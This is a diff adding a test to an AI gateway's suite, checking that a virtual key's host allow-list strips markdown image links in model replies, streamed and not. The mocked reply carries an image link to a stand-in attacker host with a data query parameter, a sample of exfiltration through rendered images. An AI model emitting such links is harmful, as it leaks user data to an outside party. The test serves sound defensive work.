@@ -244,6 +244,26 @@ describe('virtual keys', () => {
     assert.ok(!JSON.stringify(s.chunks).includes('"shell"'), 'no part of the forbidden call reaches the client');
   });
 
+  test('a key’s own exfiltration allow-list, streamed and not', async () => {
+    const k = await generate(gw, { key_alias: 'images', allow_hosts: ['images.example.com'] });
+    assert.deepEqual(k.allow_hosts, ['images.example.com']);
+    const reply = 'Chart: ![sales](https://images.example.com/c.png?q=1) and ![x](https://evil.example.net/p.png?d=abc) end';
+    const body = chat(mock({ reply }), { model: 'model-a' });
+    let r = await ask(gw, k.key, body);
+    assert.equal(r.status, 200, r.text);
+    let out = r.json.choices[0].message.content;
+    assert.ok(out.includes('https://images.example.com/c.png?q=1'), out);
+    assert.ok(!out.includes('evil.example.net'), out);
+    // The master key (and any other key) has only the policy's list.
+    r = await ask(gw, MASTER_KEY, body);
+    out = r.json.choices[0].message.content;
+    assert.ok(!out.includes('images.example.com'), out);
+    const s = await streamRaw(gw, { ...body, messages: [{ role: 'user', content: mock({ reply, chunk: 3 }) }] }, { key: k.key });
+    const text = s.chunks.map((c) => c.choices?.[0]?.delta?.content ?? '').join('');
+    assert.ok(text.includes('https://images.example.com/c.png?q=1'), text);
+    assert.ok(!text.includes('evil.example.net'), text);
+  });
+
   test('max_tokens is clamped to the key’s limit', async () => {
     const k = await generate(gw, { key_alias: 'clamp', max_tokens: 50 });
     await up.clear();
